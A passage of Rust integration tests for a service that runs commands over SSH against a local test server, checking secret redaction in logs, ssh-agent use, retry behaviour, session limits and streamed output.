    assert_eq!(body["result"]["stdout"], format!("{}\n", sshd.user));
    let id = job_id(&body);
    let text_of = |path: String| {
        let request = client.get(format!("{base}{path}")).send();
        async move { request.await.unwrap().text().await.unwrap() }
    };
    let job = text_of(format!("/jobs/{id}")).await;
    let history = text_of(format!("/jobs/{id}/events")).await;
    let _ = child.kill().await;
    let logged = std::fs::read_to_string(&log).unwrap();
    let private = std::fs::read_to_string(&key).unwrap();
    let private_body: String = private.lines().nth(1).unwrap().to_owned();
    for (what, text) in [
        ("the job", &job),
        ("its history", &history),
        ("the log", &logged),
    ] {
        assert!(!text.contains(&passphrase), "{what} holds the passphrase");
        assert!(
            !text.contains(&private_body),
            "{what} holds the private key"
        );
    }
    assert!(history.contains("ssh.run"), "{history}");
}

#[tokio::test]
async fn the_ssh_agent_can_hold_the_key() {
    let sshd = Sshd::start().await;
    let socket = sshd.path("agent.sock");
    let mut agent = tokio::process::Command::new("ssh-agent")
        .args(["-D", "-a"])
        .arg(&socket)
        .stdout(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("ssh-agent (package openssh-client)");
    assert!(
        eventually(Duration::from_secs(5), || async { socket.exists() }).await,
        "the agent listens"
    );
    let added = std::process::Command::new("ssh-add")
        .arg(&sshd.user_key)
        .env("SSH_AUTH_SOCK", &socket)
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(added.success());
    let mut host = sshd.host();
    host.key_file = None;
    host.agent = true;
    host.agent_socket = Some(socket.clone());
    let app = app_for(host).await;
    let (_, body) = peek(&app, "whoami").await;
    assert_eq!(body["status"], "success", "{body}");
    let _ = agent.kill().await;
}

#[tokio::test]
async fn without_hosts_there_are_no_ssh_intents() {
    let app = spawn_with(|_| {}).await;
    let (_, tools) = app.get_json("/tools").await;
    assert!(!tools.to_string().contains("ssh.exec"), "{tools}");
    let (status, problem) = peek(&app, "uptime").await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{problem}");
    assert_eq!(problem["code"], "unknown_intent");
}

#[tokio::test]
async fn unreachable_hosts_are_retried_and_refused_credentials_are_not() {
    let sshd = Sshd::start().await;
    let mut closed = sshd.host();
    closed.port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let app = app_for(closed).await;
    let (_, body) = peek(&app, "uptime").await;
    assert_eq!(body["status"], "error", "{body}");
    assert_eq!(body["error"]["code"], "ssh_connect_failed");
    let id = job_id(&body);
    assert_eq!(
        app.job(&id).await["attempts"],
        3,
        "transient: every attempt was used"
    );
    let history = ssh_events(&app, &id).await;
    assert_eq!(history.len(), 3, "{history:?}");
    assert!(history.iter().all(|(k, _)| k == "ssh.connect_failed"));

    let mut stranger = sshd.host();
    let other_key = sshd.path("other_ed25519");
    keygen(&other_key, "");
    stranger.key_file = Some(other_key);
    let app = app_for(stranger).await;
    let (_, body) = peek(&app, "uptime").await;
    assert_eq!(body["error"]["code"], "ssh_auth_failed", "{body}");
    assert_eq!(app.job(&job_id(&body)).await["attempts"], 1, "permanent");
}

#[tokio::test]
async fn a_session_the_server_refuses_leaves_the_others_running() {
    // We allow 4 commands at once, the server only 2 per connection.
    let sshd = Sshd::start_with("MaxSessions 2").await;
    let app = app_for(sshd.host()).await;
    let submit = |i: usize| {
        let client = app.client.clone();
        let url = format!("{}/orchestrate", app.base);
        async move {
            let body: Value = client
                .post(url)
                .json(
                    &json!({"intent": "ssh.exec", "timeout_ms": WAIT_MS, "max_attempts": 1,
                              "inputs": {"host": "test", "command": format!("sleep 1; echo {i}")}}),
                )
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            body
        }
    };
    let results = futures::future::join_all((0..4).map(submit)).await;
    let outcomes: Vec<String> = results
        .iter()
        .map(|b| match b["status"].as_str().unwrap() {
            "success" => "ran".to_owned(),
            _ => b["error"]["code"].as_str().unwrap().to_owned(),
        })
        .collect();
    let ran = outcomes.iter().filter(|o| *o == "ran").count();
    let refused = outcomes
        .iter()
        .filter(|o| *o == "ssh_channel_failed")
        .count();
    assert_eq!((ran, refused), (2, 2), "{outcomes:?}: {results:?}");
}

#[tokio::test]
async fn streamed_output_arrives_as_progress_events_before_the_result() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let resp = app
        .client
        .post(format!("{}/orchestrate", app.base))
        .header("accept", "text/event-stream")
        .json(&json!({"intent": "ssh.exec", "inputs": {
            "host": "test", "stream": true,
            "command": "for i in 1 2 3; do echo line$i; sleep 0.4; done; echo oops >&2"}}))
        .send()
        .await
        .unwrap();
    let mut stream = crate::streams::SseClient::from_response(resp).await;
    let events = stream.until("result").await;
    let result = &events.last().unwrap().data;
    assert_eq!(result["status"], "success", "{result}");
    let outputs: Vec<&Value> = events
        .iter()
        .filter(|e| e.event == "message" && e.data["kind"] == "progress")
        .map(|e| &e.data["detail"]["output"])
        .collect();
    assert!(outputs.len() >= 2, "the output came in pieces: {outputs:?}");
    let joined = |name: &str| -> String {
        outputs
            .iter()
            .filter_map(|o| o[name].as_str())
            .collect::<String>()
    };
    assert_eq!(joined("stdout"), "line1\nline2\nline3\n");
    assert_eq!(joined("stderr"), "oops\n");
    assert_eq!(result["result"]["stdout"], "line1\nline2\nline3\n");

    // Without `stream`, no progress is recorded.
    let (_, body) = app
        .orchestrate_json(
            json!({"intent": "ssh.exec", "inputs": {"host": "test", "command": "echo quiet"}}),
        )
        .await;
    let job = job_id(&body);
    let (_, history) = app.get_json(&format!("/jobs/{job}/events")).await;
    assert!(
        history["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["kind"] != "progress"),
        "{history}"
    );
}
